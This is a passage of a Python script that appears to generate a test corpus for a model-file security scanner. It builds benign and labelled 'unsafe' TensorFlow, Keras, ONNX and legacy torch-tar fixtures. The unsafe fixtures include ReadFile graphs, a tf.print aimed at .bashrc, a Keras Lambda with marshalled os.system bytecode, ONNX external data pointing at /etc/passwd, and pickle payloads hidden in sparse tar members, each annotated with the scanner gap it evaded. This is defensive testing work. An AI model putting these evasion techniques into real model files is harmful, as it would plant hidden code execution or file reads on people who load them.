            + b"tRtR"
        ),
        "unsafe",
        "research: calling a transformers modeling class (rebuilt only through __new__ in "
        "whole-model pickles); TimmBackbone's constructor creates a timm model, "
        "pretrained weights downloaded when the config asks",
    )  # fmt: skip


def _pb(number: int, data: bytes) -> bytes:
    """A length-delimited protobuf field."""
    return _varint(number << 3 | 2) + _varint(len(data)) + data


def _tf_node(name: str, op: str, *attrs: tuple[str, bytes]) -> bytes:
    """NodeDef{name = 1, op = 2, attr = 5 (map entry: key 1, AttrValue 2)}."""
    return (
        _pb(1, name.encode())
        + _pb(2, op.encode())
        + b"".join(_pb(5, _pb(1, key.encode()) + _pb(2, value)) for key, value in attrs)
    )


def _tf_saved_model(nodes: list[bytes], library: bytes = b"") -> bytes:
    """SavedModel{1: schema 1, 2: MetaGraphDef{1: meta_info{tags: serve}, 2: GraphDef}}
    with the checkpoint nodes every SavedModel has, in TensorFlow's field order."""
    saver = ["Placeholder", "Const", "SaveV2", "RestoreV2", "MergeV2Checkpoints"]
    graph = b"".join(_pb(1, _tf_node(f"n{i}", op)) for i, op in enumerate(saver))
    graph += b"".join(_pb(1, node) for node in nodes)
    graph += _pb(2, library) if library else b""
    graph += _pb(4, b"\x08\x8d\x08\x10\x0c")  # versions {producer: 1165, min_consumer: 12}
    meta = _pb(1, _pb(4, b"serve")) + _pb(2, graph)
    return b"\x08\x01" + _pb(2, meta)


def _keras_metadata(layers: list[dict[str, object]]) -> bytes:
    """keras_metadata.pb: SavedMetadata{nodes = 1: SavedObject{version 1, node_id 2,
    node_path 3, identifier 4, metadata 5 (the layer's JSON)}} (keras saved_metadata.proto)."""
    nodes = b""
    for i, layer in enumerate(layers, start=1):
        nodes += _pb(
            1,
            _pb(1, b"\x08\x02\x10\x01")  # VersionDef{producer: 2, min_consumer: 1}
            + b"\x10" + _varint(i)
            + _pb(3, f"root.layer_with_weights-{i}".encode())
            + _pb(4, b"_tf_keras_layer")
            + _pb(5, json.dumps(layer).encode()),
        )  # fmt: skip
    return nodes


def _keras_layer_metadata(class_name: str, config: dict[str, object]) -> dict[str, object]:
    """The metadata TF-Keras 2.x writes for a layer (keras/saving/legacy/saved_model)."""
    return {
        "name": config["name"],
        "trainable": True,
        "expects_training_arg": False,
        "dtype": "float32",
        "batch_input_shape": None,
        "stateful": False,
        "must_restore_from_config": False,
        "preserve_input_structure_in_config": False,
        "autocast": True,
        "class_name": class_name,
        "config": config,
    }


def red_team4_benign() -> None:
    """Guards for the fourth red-team pass (TensorFlow): tf.print to stderr, and Dense layers
    in keras_metadata.pb, laid out as TF 2.15 writes them."""
    folder = BENIGN / "redteam4/tf_print_keras_dense"
    folder.mkdir(parents=True, exist_ok=True)
    stream = _pb(2, b"stderr")  # AttrValue.s
    (folder / "keras_metadata.pb").write_bytes(
        _keras_metadata(
            [
                _keras_layer_metadata(
                    "Dense",
                    {"name": "dense", "units": 2, "activation": "relu", "use_bias": True},
                )
            ]
        )
    )
    put(
        "benign",
        "redteam4/tf_print_keras_dense/saved_model.pb",
        _tf_saved_model([_tf_node("print", "PrintV2", ("output_stream", stream))]),
        "safe",
        "TF-Keras 2.x SavedModel layout: tf.print(output_stream=sys.stderr) and a Dense "
        "layer's metadata (identifier in field 4, JSON in field 5)",
    )


def red_team4_malicious() -> None:
    """Inert attacks the fourth red-team pass (TensorFlow protobufs) found not unsafe."""
    import base64
    import marshal

    read = _tf_node("read", "ReadFile")
    versions = _pb(4, b"\x08\x8d\x08\x10\x0c")
    placeholder = _pb(1, _tf_node("path", "Placeholder"))
    put(
        "malicious",
        "redteam4/graph_versions_first.pb",
        versions + placeholder + _pb(1, read),
        "unsafe",
        "research: a frozen GraphDef with versions before its nodes (TensorFlow parses any "
        "field order; sniffed as not a model) reading any file with ReadFile",
    )
    put(
        "malicious",
        "redteam4/graph_node_op_first.pb",
        _pb(1, _pb(2, b"ReadFile") + _pb(1, b"read")) + placeholder + versions,
        "unsafe",
        "research: a frozen GraphDef whose first NodeDef gives op before name (sniffed as "
        "not a model), op ReadFile",
    )
    function = _pb(1, _pb(1, b"__inference_read_7")) + _pb(3, read)  # signature, node_def
    put(
        "malicious",
        "redteam4/graph_library_first.pb",
        _pb(2, _pb(1, function)) + _pb(1, _tf_node("call", "StatefulPartitionedCall")),
        "unsafe",
        "research: a frozen GraphDef with its function library first (sniffed as not a "
        "model); the library function reads any file, called by StatefulPartitionedCall",
    )
    stream = _pb(2, b"file:///nonexistent/.bashrc")
    put(
        "malicious",
        "redteam4/tf_print_to_file/saved_model.pb",
        _tf_saved_model([_tf_node("print", "PrintV2", ("output_stream", stream))]),
        "unsafe",
        "research: tf.print(..., output_stream='file:///.../.bashrc') appends the printed "
        "tensors (attacker text) to any file; PrintV2 was LOW whatever its stream",
    )
    inner = _pb(1, _tf_node("read", "ReadFile"))  # a GraphDef in a string constant
    tensor = b"\x08\x07" + _pb(8, inner)  # TensorProto{dtype: DT_STRING, string_val}
    put(
        "malicious",
        "redteam4/tf_dataset_from_graph/saved_model.pb",
        _tf_saved_model(
            [
                _tf_node("graph", "Const", ("value", _pb(8, tensor))),
                _tf_node("ds", "DatasetFromGraph"),
            ]
        ),
        "unsafe",
        "research: tf.data DatasetFromGraph runs a GraphDef held in a string Const, so the "
        "ReadFile in it is not among the graph's nodes",
    )
    put(
        "malicious",
        "redteam4/tf_matching_files_dataset/saved_model.pb",
        _tf_saved_model([_tf_node("files", "MatchingFilesDataset")]),
        "unsafe",
        "research: tf.data.Dataset.list_files (MatchingFilesDataset) lists any directory; "
        "MatchingFiles was flagged, its dataset form was not",
    )
    code = compile("lambda x: __import__('os').system('true') or x", "<stdin>", "eval")
    function = base64.b64encode(marshal.dumps(code.co_consts[0])).decode()
    lambda_config = {
        "name": "lambda",
        "trainable": True,
        "dtype": "float32",
        "function": {"class_name": "__tuple__", "items": [function, None, None]},
        "function_type": "lambda",
        "module": "__main__",
        "output_shape": None,
        "output_shape_type": "raw",
        "output_shape_module": None,
        "arguments": {},
    }
    folder = MALICIOUS / "redteam4/tf_keras_metadata_lambda"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "keras_metadata.pb").write_bytes(
        _keras_metadata([_keras_layer_metadata("Lambda", lambda_config)])
    )
    put(
        "malicious",
        "redteam4/tf_keras_metadata_lambda/saved_model.pb",
        _tf_saved_model([]),
        "unsafe",
        "research: a TF-Keras SavedModel whose keras_metadata.pb holds a Lambda layer with "
        "marshalled bytecode (os.system); the scan read the identifier (field 4), not the "
        "metadata JSON (field 5)",
    )
    _red_team4_onnx()


def _red_team4_onnx() -> None:
    """ONNX tensors whose external data reads any file, in places the walk skipped: a
    Constant's sparse_value and a local function's attribute default."""
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper
    from onnx.external_data_helper import set_external_data

    def external(name: str, location: str) -> onnx.TensorProto:
        tensor = numpy_helper.from_array(np.zeros(2, np.float32), name)
        set_external_data(tensor, location, offset=0, length=8)
        tensor.ClearField("raw_data")
        return tensor

    def model(nodes: list[onnx.NodeProto], **kwargs: object) -> bytes:
        out = helper.make_tensor_value_info("y", TensorProto.FLOAT, [8])
        graph = helper.make_graph(nodes, "g", [], [out])
        opsets = [helper.make_opsetid("", 17), helper.make_opsetid("local", 1)]
        made = helper.make_model(graph, producer_name="pytorch", opset_imports=opsets, **kwargs)
        return made.SerializeToString()

    indices = numpy_helper.from_array(np.array([0, 3], np.int64), "i")
    sparse = helper.make_sparse_tensor(external("v", "../../../../etc/passwd"), indices, [8])
    put(
        "malicious",
        "redteam4/onnx_sparse_constant_external.onnx",
        model([helper.make_node("Constant", [], ["y"], sparse_value=sparse)]),
        "unsafe",
        "research: a Constant node's sparse_value whose values tensor loads its data from "
        "../../../../etc/passwd (onnxruntime densifies it at load); attribute sparse "
        "tensors were not walked",
    )
    default = helper.make_attribute("w", external("w", "/etc/passwd"))
    body = helper.make_node("Constant", [], ["y"], value_float=0.0)
    function = helper.make_function(
        "local", "F", [], ["y"], [body], [helper.make_opsetid("", 17)], attribute_protos=[default]
    )
    put(
        "malicious",
        "redteam4/onnx_function_default_external.onnx",
        model([helper.make_node("F", [], ["y"], domain="local")], functions=[function]),
        "unsafe",
        "research: a model-local function whose attribute default is a tensor with external "
        "data at /etc/passwd; FunctionProto.attribute_proto was not walked",
    )


def _tar_checksummed(header: bytearray) -> bytes:
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\x00 " % sum(header)
    return bytes(header)


def _tar_block(name: str, data: bytes, *, v7: bool = False) -> bytes:
    """A tar member; ``v7``: a pre-POSIX header without the ustar magic (tarfile reads it)."""
    import tarfile

    info = tarfile.TarInfo(name)
    info.size, info.mtime = len(data), 0
    header = bytearray(info.tobuf(tarfile.GNU_FORMAT)[:512])
    if v7:
        header[257:265] = bytes(8)
    return _tar_checksummed(header) + data + bytes(-len(data) % 512)


def _tar_sparse_block(name: str, chunks: list[tuple[int, bytes]], real_size: int) -> bytes:
    """An old-GNU sparse member: stored chunks (offset, bytes); extraction fills the holes."""
    import tarfile

    data = b"".join(chunk for _offset, chunk in chunks)
    info = tarfile.TarInfo(name)
    info.size, info.mtime, info.type = len(data), 0, tarfile.GNUTYPE_SPARSE
    header = bytearray(info.tobuf(tarfile.GNU_FORMAT)[:512])
    for i, (offset, chunk) in enumerate(chunks):
        header[386 + 24 * i : 410 + 24 * i] = b"%011o\x00%011o\x00" % (offset, len(chunk))
    header[483:495] = b"%011o\x00" % real_size
    return _tar_checksummed(header) + data + bytes(-len(data) % 512)


def _legacy_torch_tar(storages: bytes, *, v7: bool = False, sparse_hole: int = 0) -> bytes:
    """torch's pre-0.4 tar checkpoint (sys_info, pickle, storages, tensors). ``sparse_hole``:
    ``storages`` is a sparse member whose first pickle's BINBYTES argument is that hole."""
    sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
    if sparse_hole:
        lead = b"\x80\x02B" + struct.pack("<I", sparse_hole)
        # stored, BINBYTES swallows the payload; extracted, it swallows the hole's zeros
        rest = b"0" + storages + bytes(sparse_hole - 1 - len(storages)) + b"}."
        chunks = [(0, lead), (len(lead) + sparse_hole, rest)]
        storages_block = _tar_sparse_block("storages", chunks, len(lead) + sparse_hole + len(rest))
    else:
        storages_block = _tar_block("storages", pickle.dumps(0, protocol=2) + storages, v7=v7)
    return (
        _tar_block("sys_info", sys_info, v7=v7)
        + _tar_block("pickle", pickle.dumps({"epoch": 3}, protocol=2), v7=v7)
        + storages_block
        + _tar_block("tensors", pickle.dumps(0, protocol=2), v7=v7)
        + bytes(10240)
    )


def red_team5_benign() -> None:
    """Guards for the fifth red-team pass (tar, safetensors): a legacy torch tar with
    V7 headers, one with a sparse storages member, and safetensors non-ASCII names."""
    import numpy as np
    from safetensors.numpy import save as st_save

    empty_views = pickle.dumps([], protocol=2)
    put(
        "benign",
        "redteam5/legacy_v7.tar",
        _legacy_torch_tar(empty_views, v7=True),
        "safe",
        "torch pre-0.4 tar checkpoint layout with V7 (no ustar magic) headers",
    )
    put(
        "benign",
        "redteam5/legacy_sparse.tar",
        _legacy_torch_tar(b"N.", sparse_hole=1024),
        "safe",
        "torch pre-0.4 tar checkpoint layout, storages stored as a GNU sparse member",
    )
    put(
        "benign",
        "redteam5/unicode_names.safetensors",
        st_save({"emb.\u00e9\U0001f600": np.zeros(4, dtype=np.float32)}),
        "safe",
        "safetensors.numpy.save with non-ASCII and non-BMP tensor names",
    )


def red_team5_malicious() -> None:
    """Inert attacks the fifth red-team pass (tar members) found not unsafe."""
    system = glob0("posix", "system") + s4("true") + b"\x85R."
    put(
        "malicious",
        "redteam5/legacy_v7_storages.tar",
        _legacy_torch_tar(b"\x80\x02" + system, v7=True),
        "unsafe",
        "torch pre-0.4 tar checkpoint with V7 headers (no ustar magic; tarfile and "
        "torch's legacy loader read it), payload in storages: was error (unknown format)",
    )
    put(
        "malicious",
        "redteam5/legacy_sparse_storages.tar",
        _legacy_torch_tar(system, sparse_hole=1024),
        "unsafe",
        "torch pre-0.4 tar checkpoint whose storages is a GNU sparse member: stored bytes "
        "hide the payload in a BINBYTES argument, the extracted hole frees it: was safe",
    )


SECTIONS = {
    "benign_pickles": lambda: benign_pickles(),
    "benign_sklearn": lambda: benign_sklearn(),
    "benign_torch": lambda: benign_torch(),
    "benign_numpy_safetensors": lambda: benign_numpy_safetensors(),
    "benign_onnx": lambda: benign_onnx(),
    "benign_gguf": lambda: benign_gguf(),
    "benign_keras": lambda: benign_keras(),
    "benign_tf": lambda: benign_tf(),
    "benign_old_library_files": lambda: benign_old_library_files(),
    "malicious_pickles": lambda: malicious_pickles(),
    "malicious_torch": lambda: malicious_torch(),
    "malicious_containers": lambda: malicious_containers(),
    "malicious_formats": lambda: malicious_formats(),
    "benign_breadth": lambda: benign_breadth(),
    "malicious_bypasses": lambda: malicious_bypasses(),
    "lightning_user_classes": lambda: lightning_user_classes(),
    "pandas_hdfstore": lambda: pandas_hdfstore(),
    "lz4_checksums": lambda: lz4_checksums(),
    "review_nested_past_head": lambda: review_nested_past_head(),
    "review_budgets": lambda: review_budgets(),
    "red_team_benign": lambda: red_team_benign(),
    "red_team_malicious": lambda: red_team_malicious(),
    "red_team2_benign": lambda: red_team2_benign(),
    "red_team2_malicious": lambda: red_team2_malicious(),
    "red_team3_benign": lambda: red_team3_benign(),
    "red_team3_malicious": lambda: red_team3_malicious(),
    "red_team4_benign": lambda: red_team4_benign(),
    "red_team4_malicious": lambda: red_team4_malicious(),
    "red_team5_benign": lambda: red_team5_benign(),
    "red_team5_malicious": lambda: red_team5_malicious(),
}


def main(argv: list[str]) -> None:
    """Regenerate everything, or only the named sections (``generate.py benign_breadth``).

    A partial run keeps the other files and their labels; it drops the labels of
    files under the folders the named sections write.
    """
    only = argv[1:]
    unknown = [name for name in only if name not in SECTIONS]
    if unknown:
        raise SystemExit(f"unknown sections {unknown}; choose from {sorted(SECTIONS)}")
    labels_path = HERE / "labels.json"
    if only:
        LABELS.update(json.loads(labels_path.read_text()))
    else:
        for folder in (BENIGN, MALICIOUS):
            shutil.rmtree(folder, ignore_errors=True)
            folder.mkdir()
    for name, section in SECTIONS.items():
        if not only or name in only:
            section()
    for rel in [rel for rel in LABELS if not (HERE / rel).exists()]:
        del LABELS[rel]
    labels_path.write_text(json.dumps(dict(sorted(LABELS.items())), indent=1) + "\n")
    total = sum(p.stat().st_size for p in HERE.rglob("*") if p.is_file())
    print(f"{len(LABELS)} files, {total} bytes", file=sys.stderr)


if __name__ == "__main__":
    main(sys.argv)
